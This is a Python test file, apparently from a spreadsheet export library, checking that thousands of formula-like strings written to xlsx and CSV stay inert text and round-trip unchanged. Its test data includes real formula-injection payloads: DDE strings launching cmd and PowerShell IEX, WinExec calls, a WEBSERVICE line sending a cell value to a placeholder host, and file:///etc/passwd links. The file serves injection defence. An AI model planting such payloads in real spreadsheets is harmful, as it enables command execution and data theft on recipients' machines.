"""No text of ours ever becomes a formula: thousands of them out, looked at, and back unchanged."""

import csv
import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from io import BytesIO, StringIO
from itertools import product
from typing import Any
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from common.cells import Column, Kind
from common.csvfile import csv_lines, unescape
from common.reader import read_sheets
from common.workbook import Properties, Sheet, write_workbook

STARTS = [
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "==", "=+", "=-", "=@"),
    *("＝", "＋", "－", "＠", "\u200e=", "\ufeff=", "\u00a0=", "\u202e=", "_x003D_", "{=", "=\n"),
    *("-=", "+=", "&=", ";=", ",=", "%="),
]
BODIES = [
    *("1+1", "A1", "$A$1:$B$2", "SUM(A1:A9)", "Values!A1", "'My sheet'!A1", "[book.xlsx]S!A1"),
    *('HYPERLINK("http://x.example","click")', 'WEBSERVICE("http://x.example/?"&A1)'),
    *(
        'IMPORTXML("http://x.example","//a")',
        'IMPORTDATA("http://x.example")',
        'IMAGE("http://x.example")',
    ),
    *("cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", 'DDE("cmd";"/C calc";"x")'),
    *(
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
        "2+5+cmd|' /C powershell IEX(x)'!A0",
        'EXEC("calc")',
    ),
    *('REGISTER.ID("user32","x")', 'CALL("Kernel32","WinExec","JC","calc",0)', "NOW()"),
    *("RAND()", 'INDIRECT("A"&1)', "OFFSET(A1,1,1)", '_xlfn.FILTERXML(A1,"//a")', "LET(x,1,x)"),
    *("LAMBDA(x,x+1)(1)", "1%", "1e5", "TRUE", "#REF!", '"text"', "{1,2;3,4}", "A1#", "@A1", "A:A"),
    *("<f>1+1</f>", "]]><f>1</f>", "&lt;f&gt;", '";WAITFOR"', "Çështje", "😀", "٣", "x" * 300, ""),
    *("12.7", "12,7", "0012", "-5", "1/2", "2026-09-30", "30.9.2026", "10:30", "TRUE()", "NA()"),
    *("http://x.example/", "mailto:a@x.example", "file:///etc/passwd", "javascript:alert(1)"),
    *(
        "internal:Sheet1!A1",
        "external:c:\\x.xlsx",
        "\\\\host\\share",
        "a\tb",
        "a\nb",
        "a\r\nb",
        '"',
        "'",
    ),
]
TEXTS = list(dict.fromkeys(start + body for start, body in product(STARTS, BODIES)))
KINDS: tuple[Kind, ...] = ("text", "number", "integer", "percent", "money", "date", "datetime")
PROPERTIES = Properties("=1+1", datetime(2026, 10, 1, 9, 0, tzinfo=UTC), "=cmd", "@SUM(A1)")


def book(sheets: Sequence[Sheet]) -> bytes:
    with write_workbook(sheets, properties=PROPERTIES) as file:
        return file.read()


def parts(data: bytes) -> Iterator[tuple[str, ElementTree.Element]]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            yield name, ElementTree.fromstring(archive.read(name))


def live(data: bytes) -> list[str]:
    """Whatever of a workbook computes, fetches or leads away."""
    found = []
    for name, root in parts(data):
        tags = {element.tag.rpartition("}")[2] for element in root.iter()}
        found += [f"{name}: {tag}" for tag in tags & {"f", "hyperlink", "oleObject", "ddeLink"}]
        if name.startswith(("xl/externalLinks", "xl/connections")) or name.endswith(".bin"):
            found.append(name)
        for element in root.iter():
            if element.attrib.get("TargetMode") == "External":
                found.append(f"{name}: {element.attrib['Target']}")
    return found


def by_calamine(data: bytes) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()


def test_there_are_thousands_of_them_and_each_is_another() -> None:
    assert len(set(TEXTS)) == len(TEXTS) >= 2_000


def test_thousands_of_texts_go_out_and_come_back_unchanged_and_none_computes() -> None:
    data = book([Sheet("S", [Column("Text", str)], TEXTS)])
    assert live(data) == []
    assert by_calamine(data) == [["Text"], *[[text] for text in TEXTS]]
    assert read_sheets(data, "a.xlsx")[0].rows == by_calamine(data)


@pytest.mark.parametrize("kind", KINDS)
def test_a_text_stays_text_in_a_column_of_any_kind(kind: Kind) -> None:
    texts = TEXTS[::29]
    data = book([Sheet("S", [Column("Text", str, kind)], texts)])
    assert live(data) == []
    assert by_calamine(data)[1:] == [[text] for text in texts]


def test_headings_titles_notes_and_properties_compute_nothing_either() -> None:
    texts = TEXTS[::37]
    columns = [Column(text, lambda row: row, "text") for text in texts]
    data = book([Sheet("=1+1", columns, ["=A1"], "=2+2"), Sheet("@SUM(A1)", [], [])])
    assert live(data) == []
    one, other = read_sheets(data, "a.xlsx")
    assert (one.title, other.title) == ("=1+1", "@SUM(A1)")
    assert one.rows[0][0] == "=2+2"
    assert one.rows[2:] == [texts, ["=A1"] * len(texts)]


def test_the_search_for_what_is_live_finds_a_formula() -> None:
    """The check of the others: a workbook with a formula in it does not pass."""
    from xlsxwriter.workbook import Workbook

    file = BytesIO()
    with Workbook(file) as made:
        page = made.add_worksheet()
        page.write_formula(0, 0, "=1+1")
        page.write_url(1, 0, "http://x.example/")
    assert {found.rpartition(": ")[2] for found in live(file.getvalue())} == {
        *("f", "hyperlink", "http://x.example/")
    }


def test_every_cell_of_text_is_marked_as_text_for_whoever_edits_it() -> None:
    data = dict(parts(book([Sheet("S", [Column("Text", str)], TEXTS[:200])])))
    cells = [c for c in data["xl/worksheets/sheet1.xml"].iter() if c.tag.endswith("}c")]
    assert len(cells) == 201
    assert {cell.attrib["t"] for cell in cells} <= {"inlineStr", "s"}
    formats = next(x for x in data["xl/styles.xml"].iter() if x.tag.endswith("}cellXfs"))
    used = {int(cell.attrib["s"]) for cell in cells}
    assert {formats[index].attrib.get("quotePrefix") for index in used} == {"1"}


def test_the_same_texts_are_harmless_in_csv_and_come_back() -> None:
    data = b"".join(csv_lines([Column("Text", str)], TEXTS))
    cells = [row[0] for row in csv.reader(StringIO(data.decode("utf-8-sig"), newline=""))][1:]
    assert [unescape(cell) for cell in cells] == TEXTS
    assert [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)] == []
    assert [row[0] for row in read_sheets(data, "a.csv")[0].rows][1:] == TEXTS
